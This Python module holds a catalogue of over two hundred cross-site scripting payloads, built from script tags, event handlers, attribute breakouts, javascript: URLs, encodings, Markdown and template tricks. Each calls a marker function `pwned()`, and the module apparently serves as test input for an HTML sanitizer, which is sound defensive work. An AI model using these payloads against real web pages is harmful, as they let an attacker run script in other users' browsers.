"""Over two hundred ways to smuggle a script into a page, each of which would call `pwned()`.

They follow the families of OWASP's filter evasion cheat sheet: tags that run scripts, handlers on any
tag, ways out of an attribute, a comment, a title or a script, addresses that are scripts, encodings,
broken markup, other namespaces, Markdown, templates and controls.
"""

from __future__ import annotations

from itertools import product

_HANDLERS = (
    *("onload", "onerror", "onfocus autofocus tabindex=1", "onmouseover", "onclick", "onpageshow"),
    *("ontoggle open", "onanimationstart", "onbegin", "onpointerenter", "onauxclick", "onwheel"),
)
_TAGS = (
    *("img src=x", "svg", "body", "video src=x", "audio src=x", "details", "input", "select"),
    *(
        "iframe",
        "marquee",
        "object data=x",
        "math",
        "a href=x",
        "style",
        "link rel=stylesheet href=x",
    ),
)
_SCRIPTS = (
    "<script>pwned()</script>",
    "<SCRIPT>pwned()</SCRIPT>",
    "<script src=data:text/javascript,pwned()></script>",
    "<script type=module>pwned()</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script\x0c>pwned()</script>",
    "<script/x>pwned()</script>",
    "<script\n>pwned()</script\n>",
    "<<script>pwned()//<</script>",
    "<svg><script>pwned()</script></svg>",
    "<svg><script href=data:,pwned() /></svg>",
    "<math><mtext><script>pwned()</script></mtext></math>",
    "<noscript><p title='</noscript><script>pwned()</script>'></noscript>",
    "<template><script>pwned()</script></template>",
    "<textarea><script>pwned()</script></textarea>",
    "<title><script>pwned()</script></title>",
    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<iframe src=javascript:pwned()></iframe>",
    "<embed src=javascript:pwned()>",
    "<object data=javascript:pwned()></object>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    "<base href=javascript:pwned()//>",
    "<form action=javascript:pwned()><button>go</button></form>",
    "<button formaction=javascript:pwned()>go</button>",
    "<isindex action=javascript:pwned() type=image>",
    "<a href=javascript:pwned()>go</a>",
    "<a href='java&#9;script:pwned()'>go</a>",
    "<a href='&#x6a;avascript:pwned()'>go</a>",
    "<a href=' javascript:pwned()'>go</a>",
    "<a href='\x01javascript:pwned()'>go</a>",
    "<a href='vbscript:pwned()'>go</a>",
    "<a href='data:text/html,<script>pwned()</script>'>go</a>",
    "<a xlink:href='javascript:pwned()'>go</a>",
    "<svg><a xlink:href='javascript:pwned()'><text>go</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:pwned() /></svg>",
    "<svg><set attributeName=onmouseover to=pwned() /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned()></svg>#x'/></svg>",
    "<div style='width:expression(pwned())'>x</div>",
    "<div style='background:url(javascript:pwned())'>x</div>",
    "<style>@import 'javascript:pwned()';</style>",
    "<style>*{animation:x}@keyframes x{}</style><b onanimationstart=pwned()>x</b>",
    "<link rel=import href='data:text/html,<script>pwned()</script>'>",
    "<p hx-get=/ hx-trigger=load hx-on::load=pwned()>x</p>",
    "<p hx-on:click=pwned()>x</p>",
    "<p data-hx-on-click=pwned()>x</p>",
    "<!--<img src='--><img src=x onerror=pwned()>'>",
    "<!--[if gte IE 4]><script>pwned()</script><![endif]-->",
    "<![CDATA[<script>pwned()</script>]]>",
    "<?xml-stylesheet href='javascript:pwned()'?>",
    "<xml><i><b>&lt;script&gt;pwned()&lt;/script&gt;</b></i></xml>",
)
_WAYS_OUT = (
    *('">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "</noscript>"),
    *("</p></div></main>", "</a>", "</svg>", "</option></select>", "</button>", "</h1>", "</li>"),
)
_OUT_OF_ATTRIBUTES = (
    *('" onmouseover=pwned() x="', "' onmouseover=pwned() x='", "` onmouseover=pwned() x=`"),
    *('" autofocus onfocus=pwned() x="', '"/onclick=pwned()/x="', '" style="x:expression(pwned())'),
    *(
        '"onclick="pwned()',
        "x' onclick='pwned()",
        '"; pwned(); "',
        "'; pwned(); '",
        "\\'; pwned();//",
    ),
)
_MARKDOWN = (
    "[go](javascript:pwned())",
    "[go](<javascript:pwned()>)",
    "[go](java\tscript:pwned())",
    "[go](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[go](x 'onclick=pwned()')",
    '[go](x"onclick="pwned())',
    "![go](x\"onerror=\"pwned())",
    "[go][1]\n\n[1]: javascript:pwned()",
    "<javascript:pwned()>",
    "`<script>pwned()</script>`",
    "    <script>pwned()</script>",
    "[term](term:x\"onclick=\"pwned())",
    "[figure](figure:x\"onclick=\"pwned())",
    "**<img src=x onerror=pwned()>**",
)  # fmt: skip
_OTHER = (
    "{{ pwned() }}{% debug %}",
    "${pwned()}",
    "{{constructor.constructor('pwned()')()}}",
    "\u202e<script>pwned()</script>",
    "\uff1cscript\uff1epwned()\uff1c/script\uff1e",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\x3cscript\\x3epwned()\\x3c/script\\x3e",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "<img src=x onerror\t=\npwned()>",
    "<img/src=x/onerror=pwned()>",
    "<img src='x'onerror='pwned()'>",
    "<img src=x onerror=&#112;wned()>",
    "<IMG SRC=x OnErRoR=pwned()>",
    "<img src=x onerror=pwned() <p>",
    "<a onclick=pwned()//>x",
    "{\"a\": \"</script><script>pwned()</script>\"}",
    "<!--private:checklist /x/--><script>pwned()</script><!--/private-->",
    "javascript:pwned()",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys([
        *_SCRIPTS,
        *(f"<{tag} {handler.replace(' ', '=pwned() ', 1) if ' ' in handler else handler + '=pwned()'}>"
          for tag, handler in product(_TAGS, _HANDLERS)),
        *(f"{way}<script>pwned()</script>" for way in _WAYS_OUT),
        *(f"{way}<img src=x onerror=pwned()>" for way in _WAYS_OUT),
        *_OUT_OF_ATTRIBUTES,
        *_MARKDOWN,
        *_OTHER,
    ])
)  # fmt: skip
"""All of them, each once."""
